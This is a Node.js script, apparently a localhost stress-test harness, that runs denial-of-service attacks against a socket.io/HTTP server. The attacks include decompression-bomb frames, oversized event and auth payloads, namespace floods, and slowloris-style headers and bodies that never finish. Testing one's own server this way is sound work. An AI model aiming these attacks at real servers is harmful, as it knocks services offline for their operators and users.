// What strangers do to cost a server the most: each attack says how it begins on one connection, and what it sends there
// again and again. Run as a program it carries one of them out: attacks.mjs PORT NAME SECONDS, and tells how many bytes it has sent.
import { connect } from "node:net";
import { deflateRawSync } from "node:zlib";
import { pathToFileURL } from "node:url";

const upgrade = (more = "") => Buffer.from(
  `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${more}\r\n`);

/** A masked frame; the mask of zeros leaves the payload as it is. */
function frame(payload, first = 0x81) {
  const bytes = Buffer.from(payload);
  const long = bytes.length > 65535;
  const head = Buffer.alloc(bytes.length < 126 ? 6 : long ? 14 : 8);
  head[0] = first;
  head[1] = 0x80 | (bytes.length < 126 ? bytes.length : long ? 127 : 126);
  if (long) head.writeBigUInt64BE(BigInt(bytes.length), 2);
  else if (bytes.length > 125) head.writeUInt16BE(bytes.length, 2);
  return Buffer.concat([head, bytes]);
}

const entered = Buffer.concat([upgrade(), frame("40")]);
const times = (count, bytes) => Buffer.concat(Array(count).fill(bytes));
const get = (target, headers = "") => Buffer.from(`GET ${target} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`);
const bomb = deflateRawSync(Buffer.from(`42["x","${"a".repeat(990_000)}"]`));
const many = (count, make) => Array.from({ length: count }, (_, i) => make(i)).join(",");

/**
 * `lines` connections (1) each send `first` and then `again` for as long as the time is; `reads: false` leaves answers unread,
 * `renew` opens new connections in the place of those that have sent `again` once.
 */
export const attacks = {
  "small events": { lines: 4, first: entered, again: times(1000, frame('42["echo",1]')) },
  "events of 990 KB, numbers": { lines: 4, first: entered, again: frame(`42["x",${many(140_000, (i) => i)}]`) },
  "events of 990 KB, objects": { lines: 4, first: entered, again: frame(`42["x",${many(70_000, (i) => `{"k${i}":1}`)}]`) },
  "frames that inflate a thousandfold": {
    lines: 4, first: Buffer.concat([upgrade("Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n"), frame("40")]), again: times(20, frame(bomb, 0xc1)),
  },
  "joins and leaves of a namespace": { lines: 4, first: entered, again: times(200, Buffer.concat([frame("40/slow,"), frame("41/slow,")])) },
  "rooms with long names": { lines: 40, first: entered, again: frame(`420["join",[${many(100, (i) => `"${String(i).padEnd(9000, "r")}"`)}]]`), once: true },
  "auth of 990 KB": { lines: 40, first: upgrade(), again: frame(`40{"a":[${many(140_000, (i) => i)}]}`), once: true },
  "echoes that nobody reads": { lines: 20, first: entered, again: times(20, frame(`42["echo",1,"${"e".repeat(20_000)}"]`)), reads: false },
  "handshakes that are never polled": { lines: 4, again: times(100, get("/socket.io/?EIO=4&transport=polling")) },
  "requests for a page": { lines: 4, again: times(100, get("/page")) },
  "requests that are refused": { lines: 20, again: get("/page", "Transfer-Encoding: x\r\n"), renew: true },
  "connections that say nothing": { lines: 200, again: Buffer.alloc(0), renew: true },
  "heads that never end": { lines: 1000, again: get("/page", `X: ${"x".repeat(15_000)}`).subarray(0, -2), once: true },
  "bodies that never end": { lines: 200, again: Buffer.from(`POST /page HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n${"b".repeat(900_000)}`), once: true },
};

async function onOneLine(port, { first = Buffer.alloc(0), again, reads = true, once, renew }, until, tally) {
  while (Date.now() < until) {
    const socket = connect(port, "127.0.0.1").on("error", () => {});
    const gone = new Promise((resolve) => socket.once("close", resolve));
    await Promise.race([gone, new Promise((resolve) => socket.once("connect", resolve))]);
    reads ? socket.resume() : socket.pause();
    const say = (bytes) => Promise.race([gone, new Promise((resolve) => socket.write(bytes, () => ((tally.bytes += bytes.length), resolve())))]);
    await say(first);
    do await Promise.race([say(again), new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now())))]);
    while (!once && !renew && !socket.destroyed && Date.now() < until);
    if (once) await Promise.race([gone, new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now())))]);
    socket.resetAndDestroy();
  }
}

async function carryOut(port, name, seconds) {
  const tally = { bytes: 0 };
  const until = Date.now() + seconds * 1000;
  await Promise.all(Array.from({ length: attacks[name].lines }, () => onOneLine(port, attacks[name], until, tally)));
  process.stdout.write(`${tally.bytes}\n`);
  process.exit(0);
}

if (import.meta.url === pathToFileURL(process.argv[1]).href) await carryOut(Number(process.argv[2]), process.argv[3], Number(process.argv[4]));
